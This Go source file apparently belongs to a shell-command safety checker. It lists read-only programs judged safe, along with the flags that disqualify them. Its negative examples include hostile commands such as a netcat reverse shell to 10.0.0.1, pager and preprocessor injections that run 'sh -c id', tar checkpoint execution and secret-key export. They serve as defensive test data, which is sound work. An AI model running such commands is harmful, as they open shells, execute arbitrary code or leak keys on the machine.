package program

import "github.com/checkrein/checkrein/internal/shell"

// readsPack knows the programs that only look, and the flags that make them do
// more. Sending what they read away is judged elsewhere.
var readsPack = shell.RuleSet{
	Pack: shell.PackReads,
	Rules: []shell.Rule{
		// Files.
		{
			ID: "list", Cmd: "ls|ll|la|dir|vdir|exa|eza|lsd|du|df|dust|duf|ncdu|lsattr|getfacl|getfattr|getcap|mountpoint|findmnt|lsblk|blkid|namei",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Paths: true, Reason: "lists files or disk space",
			Match:   []string{"ls -la", "du -sh *", "df -h", "eza -l --git"},
			NoMatch: []string{"rm -rf ls"},
		},
		{
			ID: "tree", Cmd: "tree", Not: "-o -R",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Paths: true, Reason: "lists files",
			Match:   []string{"tree -L 2 src", "tree -a -I node_modules"},
			NoMatch: []string{"tree -o listing.txt", "rm tree"},
		},
		{
			ID: "print", Cmd: "cat|bat|batcat|head|tail|less|more|most|zcat|zless|zmore|bzcat|xzcat|lzcat|zstdcat|gzcat|lz4cat|tac|rev|nl",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Paths: true, Reason: "prints files",
			Match:   []string{"cat README.md", "head -n 20 main.go", "tail -f log/development.log", "bat -p x.py", "zcat old.log.gz"},
			NoMatch: []string{"echo cat", "lessc a.less"},
		},
		{
			ID: "about-file", Cmd: "stat|wc|readlink|realpath|basename|dirname|pathchk|cksum|sum|md5|md5sum|sha1sum|sha224sum|sha256sum|sha384sum|sha512sum|shasum|b2sum|b3sum|crc32|xxhsum|xxh64sum|cloc|tokei|scc|sloccount|exiftool|mediainfo|ffprobe|identify|pdfinfo|pdftotext|nm|objdump|readelf|ldd|size|otool|dwarfdump|pahole|c++filt|addr2line",
			Not:   "-overwrite_original -delete_original",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Paths: true, Reason: "says something about files",
			Match:   []string{"stat -c %s x", "wc -l *.go", "sha256sum dist/app", "realpath .", "basename /a/b.txt .txt"},
			NoMatch: []string{"touch stat"},
		},
		{
			ID: "file-type", Cmd: "file", Not: "-C --compile",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Paths: true, Reason: "says what kind of files these are",
			Match:   []string{"file ./a.out", "file -b --mime-type x.png"},
			NoMatch: []string{"file -C -m magic", "file --compile -m magic"},
		},
		{
			ID: "locate", Cmd: "locate|mlocate|plocate|mdfind|mdls|whereis|which|where|type|hash|command|apropos|whatis|info|tldr|cheat|pinfo|help|zipinfo|lsar|lsof",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Reason: "looks up programs, files or their manuals",
			Match:   []string{"which node", "type -a python", "whereis gcc", "command -v docker", "lsof -i :3000"},
			NoMatch: []string{"rm which"},
		},
		{
			ID: "manual", Cmd: "man", Not: "-P --pager -H --html",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Reason: "shows a manual",
			Match:   []string{"man rm", "man 7 signal"},
			NoMatch: []string{"man -P 'sh -c id' ls", "man --pager=sh ls"},
		},
		{
			ID: "who-uses", Cmd: "fuser", Not: "-k --kill",
			Label: shell.Safe, Kind: "read", Category: shell.ProcRead, Reason: "says which processes use a file or port",
			Match:   []string{"fuser 8080/tcp", "fuser -v ."},
			NoMatch: []string{"fuser -k 8080/tcp", "fuser -km /mnt", "fuser --kill ."},
		},
		{
			ID: "find-names", Cmd: "fd|fdfind", Not: "-x --exec -X --exec-batch",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Reason: "finds files by name",
			Match:   []string{"fd -e go", "fd '^test_' src"},
			NoMatch: []string{"fd -e log -x rm", "fd . -X rm", "fd --exec rm"},
		},
		{
			ID: "archive-list", Cmd: "tar|gtar|bsdtar", Any: "-t --list t tf tvf tzf tjf tzvf tvzf tjvf ztvf", Not: "-c -x -r -u -A --create --extract --get --append --update --delete --to-command --checkpoint-action --use-compress-program -I --rsh-command -F --info-script",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Paths: true, Reason: "lists an archive",
			Match:   []string{"tar -tf a.tar", "tar tzf a.tgz", "tar --list -f a.tar", "tar -tvf a.tar.gz"},
			NoMatch: []string{"tar -xf a.tar", "tar -tf a.tar --checkpoint-action=exec=sh", "tar -tf a.tar --use-compress-program=evil"},
		},
		{
			ID: "zip-list", Cmd: "unzip|7z|7za|7zr|unrar|rar|gzip|gunzip|xz|zstd|bzip2|cpio|jar|unar|lsar", Any: "-l -lv -Z -t -tq -v --list --test l t v lb -tf tf -tvf", Not: "-d x e -x -e -o a d u -c",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Paths: true, Reason: "lists or checks an archive",
			Match:   []string{"unzip -l a.zip", "7z l a.7z", "gzip -l a.gz", "jar tf a.jar"},
			NoMatch: []string{"unzip -o a.zip", "gzip big.log", "7z x a.7z"},
		},
		{
			ID: "unpack-stdout", Cmd: "gunzip|gzip|bunzip2|bzip2|unxz|xz|unzstd|zstd|unlz4|lz4|uncompress|brotli", Any: "-c --stdout --to-stdout",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Paths: true, Reason: "packs or unpacks to the output",
			Match:   []string{"gunzip -c a.gz", "xz -dc a.xz", "gzip --stdout x"},
			NoMatch: []string{"gunzip a.gz", "gzip -9 x"},
		},
		{
			ID: "unzip-print", Cmd: "unzip", Any: "-p",
			Label: shell.Safe, Kind: "read", Category: shell.FSRead, Paths: true, Reason: "prints a file of an archive",
			Match:   []string{"unzip -p a.zip META-INF/MANIFEST.MF", "unzip -p a.jar x"},
			NoMatch: []string{"unzip a.zip", "unzip -o a.zip -d /"},
		},

		// Text.
		{
			ID: "search", Cmd: "grep|egrep|fgrep|zgrep|zegrep|zfgrep|bzgrep|xzgrep|zstdgrep|pgrep|ag|ack|ack-grep|ugrep|ug|sift|pt",
			Not:   "--pager --signal --filter",
			Label: shell.Safe, Kind: "read", Category: shell.TextRead, Reason: "searches text",
			Match:   []string{"grep -rn 'rm -rf' .", "egrep 'a|b' x", "ag TODO", "grep --color=never -i drop schema.sql", "pgrep -fl node"},
			NoMatch: []string{"ag --pager='sh -c id' x", "rm grep"},
		},
		{
			ID: "code-search", Cmd: "ast-grep|semgrep|comby", Not: "-U --update-all -r --rewrite --autofix -a -i -in-place --in-place",
			Label: shell.Safe, Kind: "read", Category: shell.TextRead, Reason: "searches code",
			Match:   []string{"ast-grep run -p 'foo($A)'", "semgrep --config p/ci ."},
			NoMatch: []string{"semgrep --autofix .", "ast-grep -p a -r b -U"},
		},
		{
			ID: "ripgrep", Cmd: "rg|rga", Not: "--pre --hostname-bin",
			Label: shell.Safe, Kind: "read", Category: shell.TextRead, Reason: "searches text",
			Match:   []string{"rg 'DROP TABLE' -g '*.sql'", "rg -n --files", "rg -z foo"},
			NoMatch: []string{"rg --pre ./run.sh x", "rg --hostname-bin=/tmp/x foo", "rg --pre=sh x"},
		},
		{
			ID: "shuf", Cmd: "shuf|gshuf", Not: "--random-source",
			Label: shell.Safe, Kind: "read", Category: shell.TextRead, Reason: "puts lines in another order; where they are written is judged by itself",
			Match:   []string{"shuf -n 5 x", "shuf -o out.txt x"},
			NoMatch: []string{"shuf --random-source=y x", "sort x"},
		},
		{
			ID: "sort", Cmd: "sort|gsort|tsort", Not: "-o --output --compress-program --random-source",
			Label: shell.Safe, Kind: "read", Category: shell.TextRead, Reason: "sorts text",
			Match:   []string{"sort -u names.txt", "sort -t, -k2 -n x.csv"},
			NoMatch: []string{"sort -oout x", "sort -o x x", "sort --output=x y", "sort --compress-program=sh x", "sort -uo x x"},
		},
		{
			ID: "text", Cmd: "cut|tr|column|paste|join|comm|fold|fmt|pr|expand|unexpand|numfmt|strings|od|hexdump|hd|hexyl|look|wdiff|cmp|diff|diff3|colordiff|difft|icdiff|delta|diffstat|zdiff|zcmp|jq|gojq|jaq|jless|fx|gron|xq|htmlq|pup|csvcut|csvgrep|csvlook|csvstat|csvsort|csvjson|csvformat|in2csv|xsv|qsv|tsv-pretty|ts|pv|ccat|pygmentize|highlight|glow|mdcat|figlet|toilet|cowsay|lolcat|bc|dc|factor|units|expr|base32|base64|basenc|uuencode|iconv|recode|html2text",
			Not:   "--output --output-file --in-place",
			Label: shell.Safe, Kind: "read", Category: shell.TextRead, Reason: "shows text in another form",
			Match:   []string{"cut -d: -f1 x", "jq '.scripts' package.json", "diff -u a b", "tr a-z A-Z", "base64 -d x.b64", "column -t x"},
			NoMatch: []string{"diff a b --output=x", "iconv -f latin1 -t utf8 --output=y x"},
		},
		{
			ID: "side-by-side", Cmd: "sdiff", Not: "-o --output",
			Label: shell.Safe, Kind: "read", Category: shell.TextRead, Reason: "compares two files",
			Match:   []string{"sdiff a b", "sdiff -s a b"},
			NoMatch: []string{"sdiff -o merged a b", "sdiff --output=merged a b"},
		},
		{
			ID: "structured-edit", Cmd: "yq|dasel|taplo|mlr", Any: "-i -I --inplace --in-place fmt format put",
			Label: shell.Safe, Kind: "write", Category: shell.FSWrite, Reason: "changes a value in a file of the project; files elsewhere are judged by themselves",
			Match:   []string{"yq -i '.a=1' x.yaml", "yq --inplace '.a=1' x.yaml", "taplo fmt"},
			NoMatch: []string{"yq '.a' x.yaml", "jq . x"},
		},
		{
			ID: "structured", Cmd: "yq|dasel|mlr|xmlstarlet|xmllint|taplo|hcl2json|json2yaml|yaml2json|yamllint|jsonlint|plutil", Not: "-i -I --inplace --in-place -L -o --output put delete -convert -replace -insert -remove -s --split-exp fmt format",
			Label: shell.Safe, Kind: "read", Category: shell.TextRead, Reason: "reads structured text",
			Match:   []string{"yq '.services' compose.yml", "yq e .a x.yaml", "xmllint --noout pom.xml", "mlr --icsv --ojson cat x.csv"},
			NoMatch: []string{"yq -i '.a=1' x.yaml", "yq -yi .a x.yaml", "yq --inplace '.a=1' x.yaml", "mlr -I sort x.csv"},
		},
		{
			ID: "logs", Cmd: "journalctl", Not: "--vacuum-size --vacuum-time --vacuum-files --rotate --flush --relinquish-var --smart-relinquish-var --sync --setup-keys --update-catalog",
			Label: shell.Safe, Kind: "read", Category: shell.ProcRead, Reason: "reads the system's log",
			Match:   []string{"journalctl -u nginx -n 100", "journalctl --since today", "journalctl -xe --no-pager"},
			NoMatch: []string{"journalctl --vacuum-time=1s", "journalctl --rotate"},
		},
		{
			ID: "kernel-log", Cmd: "dmesg", Not: "-c -C --clear --read-clear -D -E -n --console-off --console-on --console-level",
			Label: shell.Safe, Kind: "read", Category: shell.ProcRead, Reason: "reads the kernel's log",
			Match:   []string{"dmesg -T", "dmesg --level=err"},
			NoMatch: []string{"dmesg -C", "dmesg --clear", "dmesg -c"},
		},

		// The machine and its processes.
		{
			ID: "processes", Cmd: "ps|pstree|pidof|pwdx|pmap|top|htop|btop|atop|glances|uptime|free|vmstat|iostat|mpstat|sar|pidstat|w|who|whoami|id|groups|users|last|lastlog|lastb|finger|logname|tty|getent|nproc|arch|uname|lscpu|lsmem|lspci|lsusb|lshw|lsmod|modinfo|lslogins|lsipc|lsns|hostid|sw_vers|system_profiler|vm_stat|dmidecode|sensors|acpi|neofetch|fastfetch|screenfetch|inxi|getconf|locale|cal|ncal|lsb_release|ulimit|umask|times|jobs|runlevel|uuidgen|mcookie|env|printenv|ipcs|lsinitramfs",
			Label: shell.Safe, Kind: "read", Category: shell.ProcRead, Reason: "looks at the machine, its users or its processes",
			Match:   []string{"ps aux", "top -b -n1", "free -h", "id -un", "uname -a", "whoami", "printenv PATH", "env"},
			NoMatch: []string{"sysctl -w a=b"},
		},
		{
			ID: "gpu", Cmd: "nvidia-smi|rocm-smi", Not: "-r --gpu-reset -pm -pl -c --reset-gpu -e --gpureset",
			Label: shell.Safe, Kind: "read", Category: shell.ProcRead, Reason: "looks at the graphics cards",
			Match:   []string{"nvidia-smi", "nvidia-smi --query-gpu=memory.used --format=csv"},
			NoMatch: []string{"nvidia-smi --gpu-reset", "nvidia-smi -pm 1"},
		},
		{
			ID: "sockets", Cmd: "ss|netstat|getenforce|sestatus|aa-status|traceroute|tracepath|mtr|ping|ping6|fping|dig|host|nslookup|drill|whois|kdig|doggo|dog|ipcalc|speedtest|iwconfig",
			Not:   "-K --kill --pidfile",
			Label: shell.Safe, Kind: "read", Category: shell.NetRead, Reason: "looks at the network",
			Match:   []string{"ss -tlnp", "netstat -an", "ping -c 3 example.com", "dig +short example.com", "nslookup example.com"},
			NoMatch: []string{"ss -K dst 10.0.0.1", "rm ss"},
		},
		{
			ID: "interfaces", Cmd: "ifconfig|route|arp|ethtool|nmap",
			Not:   "-d -s -f down up del add delete flush change -G -E -K -A -L -C --flash --script -oN -oX -oG -oA -oS",
			Label: shell.Safe, Kind: "run", Category: shell.NetRead, Reason: "looks at the network",
			Match:   []string{"ifconfig", "arp -a", "route -n"},
			NoMatch: []string{"ifconfig eth0 down", "route del default", "arp -d 10.0.0.1"},
		},
		{
			ID: "ip-show", Cmd: "ip", Not: "add del delete set flush change replace append restore save exec",
			Label: shell.Safe, Kind: "read", Category: shell.NetRead, Reason: "looks at the network",
			Match:   []string{"ip addr", "ip a", "ip route show", "ip -br link"},
			NoMatch: []string{"ip link set eth0 down", "ip route flush table main", "ip addr del 10.0.0.1/8 dev eth0"},
		},
		{
			ID: "sysctl-read", Cmd: "sysctl", Not: "-w --write -p --load --system -f", Any: "-a -n -A --all -N -e",
			Label: shell.Safe, Kind: "read", Category: shell.ProcRead, Reason: "reads kernel settings",
			Match:   []string{"sysctl -a", "sysctl -n hw.ncpu"},
			NoMatch: []string{"sysctl -w vm.drop_caches=3", "sysctl -p"},
		},
		{
			ID: "time-read", Cmd: "timedatectl|hostnamectl|localectl|loginctl|resolvectl|networkctl|bootctl|coredumpctl|machinectl|busctl", Not: "set-time set-timezone set-ntp set-local-rtc set-hostname set-icon-name set-chassis set-deployment set-location set-locale set-keymap hostname icon-name chassis deployment location terminate-session terminate-user terminate-seat kill-session kill-user kill-machine lock-session lock-sessions enable-linger disable-linger kill-session flush-caches reset-statistics reset-server-features revert dns domain down up delete install remove terminate poweroff reboot start stop call set-property debug gdb",
			Label: shell.Safe, Kind: "run", Category: shell.ProcRead, Reason: "looks at the system's settings",
			Match:   []string{"timedatectl", "loginctl list-sessions", "hostnamectl status"},
			NoMatch: []string{"timedatectl set-time 2020-01-01", "loginctl terminate-user bob", "hostnamectl set-hostname x"},
		},
		{
			ID: "cron-list", Cmd: "crontab", Any: "-l",
			Not:   "-r -e -i",
			Label: shell.Safe, Kind: "read", Category: shell.ProcRead, Reason: "lists scheduled jobs",
			Match:   []string{"crontab -l", "crontab -u bob -l"},
			NoMatch: []string{"crontab -r", "crontab -e", "crontab new.txt"},
		},
		{
			ID: "queue-list", Cmd: "atq|mailq|lpstat|lpq|squeue|sinfo|sacct|qstat|condor_q|bjobs",
			Label: shell.Safe, Kind: "read", Category: shell.ProcRead, Reason: "lists waiting jobs",
			Match:   []string{"atq", "squeue -u bob"},
			NoMatch: []string{"atrm 3"},
		},

		// The shell itself.
		{
			ID: "say", Cmd: "echo|printf|print|true|false|test|[|[[|:|seq|sleep|wait|yes|clear|tput|let|cd|pushd|popd|dirs|pwd|return|exit|break|continue|shift|read|readarray|mapfile|export|unset|set|shopt|declare|typeset|local|readonly|alias|unalias|getopts|fg|bg|disown|hash|bind|complete|compgen|compopt|caller|suspend|times|usleep|sync",
			Label: shell.Safe, Kind: "read", Category: shell.IO, Reason: "a step of the shell itself",
			Match:   []string{"echo 'rm -rf /'", "printf '%s\\n' x", "test -f x", "sleep 5"},
			NoMatch: []string{"rm echo"},
		},
		{
			ID: "history-list", Cmd: "history|fc", Not: "-c -d -w -r -a -n -s -e clear delete --delete --clear",
			Label: shell.Safe, Kind: "read", Category: shell.ProcRead, Reason: "lists earlier commands",
			Match:   []string{"history", "history 20", "fc -l"},
			NoMatch: []string{"history -c", "history -d 10", "history -cw"},
		},
		{
			ID: "dialogue", Cmd: "dialog|whiptail|notify-send|say|terminal-notifier|pbpaste",
			Label: shell.Safe, Kind: "read", Category: shell.IO, Reason: "speaks to the person at the machine",
			Match:   []string{"notify-send done", "say finished"},
			NoMatch: []string{"osascript -e 'do shell script \"id\"'"},
		},

		// The network, and keys.
		{
			ID: "openssl-read", Cmd: "openssl version|x509|verify|s_client|ciphers|crl|asn1parse|speed|list|errstr|prime|dgst|sha256|md5|req|rand|help|info|passwd|rsa|ec|pkey|pkcs12|enc|base64",
			Not:   "-out -keyout -writerand -signkey -sign -engine -provider-path -CAcreateserial",
			Label: shell.Safe, Kind: "read", Category: shell.CryptoRead, Reason: "reads or computes with keys and certificates",
			Match:   []string{"openssl x509 -in cert.pem -noout -text", "openssl rand -hex 32", "openssl s_client -connect example.com:443", "openssl version"},
			NoMatch: []string{"openssl genrsa -out key.pem 2048", "openssl req -new -keyout k.pem -out c.csr", "openssl enc -aes-256-cbc -in a -out a"},
		},
		{
			ID: "key-list", Cmd: "gpg|gpg2", Any: "-k -K --list-keys --list-secret-keys --list-public-keys --fingerprint --verify --version --list-sigs --check-sigs --list-packets --show-keys --list-config", Not: "--delete-keys --delete-secret-keys --delete-key --delete-secret-key --delete-secret-and-public-key --export-secret-keys --export-secret-key --export-secret-subkeys -o --output",
			Label: shell.Safe, Kind: "read", Category: shell.CryptoRead, Reason: "lists keys or checks a signature",
			Match:   []string{"gpg --list-keys", "gpg --verify a.sig a", "gpg -K"},
			NoMatch: []string{"gpg --delete-secret-keys ABC", "gpg --export-secret-keys ABC"},
		},
		{
			ID: "ssh-read", Cmd: "ssh", Any: "-V -G -Q",
			Label: shell.Safe, Kind: "read", Category: shell.NetRead, Reason: "says what ssh would use",
			Match:   []string{"ssh -V", "ssh -G example.com"},
			NoMatch: []string{"ssh example.com", "ssh-copy-id example.com"},
		},
		{
			ID: "ssh-key-read", Cmd: "ssh-keygen", Any: "-l -F -L -B", Not: "-R -D -f-",
			Label: shell.Safe, Kind: "read", Category: shell.CryptoRead, Reason: "shows a key's fingerprint",
			Match:   []string{"ssh-keygen -lf key.pub", "ssh-keygen -F example.com"},
			NoMatch: []string{"ssh-keygen -R example.com", "ssh-keygen -t ed25519"},
		},
		{
			ID: "ssh-misc", Cmd: "ssh-keyscan|ssh-add", Not: "-d -D -s -e -x -X",
			Label: shell.Safe, Kind: "run", Category: shell.CryptoRead, Reason: "reads or loads keys",
			Match:   []string{"ssh-add -l", "ssh-keyscan github.com"},
			NoMatch: []string{"ssh-add -D", "ssh-add -d key"},
		},
		{
			ID: "port-check", Cmd: "nc|ncat|netcat", Any: "-z -zv -vz", Not: "-e -c --exec --sh-exec -l",
			Label: shell.Safe, Kind: "read", Category: shell.NetRead, Reason: "checks whether a port is open",
			Match:   []string{"nc -z localhost 5432", "nc -zv localhost 80"},
			NoMatch: []string{"nc -e /bin/sh 10.0.0.1 4444", "nc 10.0.0.1 4444"},
		},
		{
			ID: "wait-for", Cmd: "wait-on|wait-for-it|wait-for-it.sh|dockerize|pg_isready",
			Label: shell.Safe, Kind: "run", Category: shell.NetRead, Reason: "waits until a service answers",
			Match:   []string{"pg_isready -h localhost", "wait-on http://localhost:3000"},
			NoMatch: []string{"mysqladmin drop app"},
		},
		{
			ID: "manuals", Cmd: "ri|perldoc|cppman|tldr|cheat|tealdeer|eg|bropages|howdoi|pydoc|pydoc3|godoc|zeal|dasht|devdocs|manly|kb|navi|um|perldoc.pl|rustup-doc|hackage-docs|hoogle|javadoc-view|erldoc|xman|yelp|pinfo|cht.sh|rfc|mdn|gdoc|wikiman|qman", Not: "--update -u -o --edit -e --install -P --pager -H --html",
			Label: shell.Safe, Kind: "read", Category: shell.TextRead, Reason: "shows a page of a manual",
			Match:   []string{"ri FileUtils.rm_rf", "perldoc -f unlink", "cppman remove", "tldr rm", "cheat shred"},
			NoMatch: []string{"cheat -e tar"},
		},
		{
			ID: "scan-here", Cmd: "nmap", Arg: "<here>", Not: "--script -iL -oN -oX -oG -oA --script-args",
			Label: shell.Safe, Kind: "read", Category: shell.NetRead, Reason: "looks which ports of this machine are open",
			Match:   []string{"nmap -sV localhost", "nmap 127.0.0.1"},
			NoMatch: []string{"nmap 10.0.0.0/8", "nmap --script vuln localhost"},
		},
	},
}
